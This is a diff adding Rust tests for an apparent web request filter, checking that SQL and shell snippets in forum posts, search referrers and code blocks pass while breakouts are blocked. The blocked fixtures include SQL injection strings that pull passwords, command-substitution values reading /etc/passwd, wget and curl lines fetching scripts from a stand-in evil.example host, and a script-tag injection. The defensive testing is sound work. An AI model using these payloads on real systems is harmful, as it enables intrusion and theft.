@@ -261,3 +261,155 @@ fn sql_a_person_searched_for_in_the_referer_is_not_sqli_but_a_breakout_is() {
         "script in a referrer still counts"
     );
 }
+
+#[test]
+fn sql_in_a_code_block_of_a_forum_post_passes_but_a_breakout_is_caught() {
+    // The quotes of the markup (`class="language-sql"`) and the statement's
+    // own literals stay inside the string the post is stored in.
+    for post in [
+        r#"{"title":"SQL: SELECT a, b FROM test GROUP BY a","content":"<p>Why does this query fail?</p><pre><code class=\"language-sql\">SELECT a, b FROM test GROUP BY a</code></pre>"}"#,
+        r#"{"title":"SQL: SELECT a FROM x WHERE a COLLATE 'utf8_general_ci'","content":"<pre><code class=\"language-sql\">SELECT a FROM x WHERE a COLLATE 'utf8_general_ci' = 'b'</code></pre>"}"#,
+        r#"{"title":"SQL: x IN ('a', 'a''a')","content":"<pre><code>INSERT INTO t1 (\"tc1\" /* tc1 */) SELECT \"c1\" /* sc1 */ FROM t</code></pre>"}"#,
+    ] {
+        assert_passes(post, &json(post));
+    }
+    for attack in [
+        r#"{"title":"x' UNION SELECT password FROM users--","content":"<p>hi</p>"}"#,
+        r#"{"title":"hi","content":"<pre><code class=\"language-sql\">' or 1=1--</code></pre>"}"#,
+        r#"{"id":"1 union select password from users"}"#,
+        r#"{"q":"x/*!UNION*/ /*!SELECT*/ password FROM users"}"#,
+    ] {
+        assert_blocked(attack, &json(attack));
+    }
+}
+
+#[test]
+fn sql_search_terms_with_literals_in_the_referer_pass_but_a_breakout_is_caught() {
+    let referer_blocked = |q: &str| {
+        let referer = format!("https://www.google.com/search?q={}&oq={}", enc(q), enc(q));
+        blocked(&run(
+            "GET",
+            "/api/questions",
+            &[("referer", referer.as_str())],
+            b"",
+        ))
+    };
+    for search in [
+        "SQL: SELECT a FROM x WHERE a COLLATE 'utf8_general_ci' = 'b'",
+        "x IN ('a', 'a''a')",
+        "CURRENT_DATE('UTC')",
+        "SELECT * FROM x WHERE name LIKE ANY XXX('a', 'b')",
+    ] {
+        assert!(!referer_blocked(search), "search refused: {search}");
+    }
+    for attack in [
+        "x' or '1'='1",
+        "' or ''='",
+        "admin'--",
+        "1\" union select password from users#",
+    ] {
+        assert!(referer_blocked(attack), "break-out passed: {attack}");
+    }
+}
+
+#[test]
+fn markdown_code_spans_and_fences_are_not_command_substitution() {
+    for text in [
+        "You can use a tool such as `curl` to submit a parameter value.",
+        "Re-runs your workflow run using its `id`. You must authenticate.",
+        "Lists webhooks for a repository. `last response` may return null.",
+        "see the [`curl` documentation](https://curl.se/docs/manpage.html)",
+        "请使用`curl`命令下载",
+        "```ruby\ndef foo(x)\n  return 3\nend\n```\n",
+        "Lists webhooks for a repository. `last",
+    ] {
+        let body = format!(
+            r#"{{"raw":{}}}"#,
+            serde_json::to_string(text).unwrap_or_default()
+        );
+        assert_passes(text, &json(&body));
+        let form = format!("content={}", enc(text));
+        assert_passes(
+            text,
+            &run(
+                "POST",
+                "/wp-admin/post.php",
+                &[("content-type", "application/x-www-form-urlencoded")],
+                form.as_bytes(),
+            ),
+        );
+    }
+    for attack in [
+        "`curl -L http://evil.example/x.sh`",
+        "ax--exec=`id`--remote=origin",
+        "name=`id`",
+        "hello;`whoami`",
+        "a `cat /etc/passwd`",
+    ] {
+        let form = format!("content={}", enc(attack));
+        assert_blocked(
+            attack,
+            &run(
+                "POST",
+                "/comment",
+                &[("content-type", "application/x-www-form-urlencoded")],
+                form.as_bytes(),
+            ),
+        );
+    }
+}
+
+#[test]
+fn a_search_post_or_error_report_that_opens_as_text_passes_but_telling_sql_is_caught() {
+    let query_blocked = |q: &str| blocked(&run("GET", &format!("/search?q={}", enc(q)), &[], b""));
+    for search in [
+        "SELECT COUNT(*) FROM orders WHERE created_at > '2024-01-01' GROUP BY user_id",
+        "mysql select * from users where name like '%张%'",
+        "how to delete from t where a = 'x'; select 1",
+        "<div class=\"ql-editor\"><p>SELECT * FROM users WHERE id = 1</p></div>",
+        "Uncaught SyntaxError: Unexpected token '<' (at index.js:1:1)",
+    ] {
+        assert!(!query_blocked(search), "search refused: {search}");
+    }
+    for attack in [
+        "select pg_sleep(5)",
+        "select * from information_schema.tables",
+        "select name from sysibm.systables",
+        "select x' or 1=1--",
+        "UNION ALL SELECT NULL#",
+        "1 union select password from users",
+        "john smith' or 1=1--",
+        "<p>1 union select password from users</p>",
+    ] {
+        assert!(query_blocked(attack), "passed: {attack}");
+    }
+}
+
+#[test]
+fn code_shown_in_a_code_block_passes_but_the_same_outside_it_is_caught() {
+    let post = |content: &str| {
+        let body = format!("content={}&action=editpost", enc(content));
+        run(
+            "POST",
+            "/wp-admin/post.php",
+            &[("content-type", "application/x-www-form-urlencoded")],
+            body.as_bytes(),
+        )
+    };
+    for shown in [
+        "<p>Try it:</p><pre><code>curl -X GET \"http://127.0.0.1:3000/admin/users/list\"</code></pre>",
+        "<p>Then</p><pre><code>cat /etc/hosts; wget http://mirror.example/x.tar.gz</code></pre>",
+        "Python:\n```python\nimport os\nos.system('ls -la')\n```\nDone.",
+    ] {
+        assert_passes(shown, &post(shown));
+    }
+    for attack in [
+        "<p>Try it:</p><pre><code>x</code></pre>http://127.0.0.1:3000/admin/users/list",
+        "<pre><code>x</code></pre>; wget http://evil.example/x.sh",
+        "<pre><code>x</code></pre><script>alert(1)</script>",
+        "```\nx\n```\nos.system('id')",
+        "<pre><code>unclosed; wget http://evil.example/x.sh",
+    ] {
+        assert_blocked(attack, &post(attack));
+    }
+}
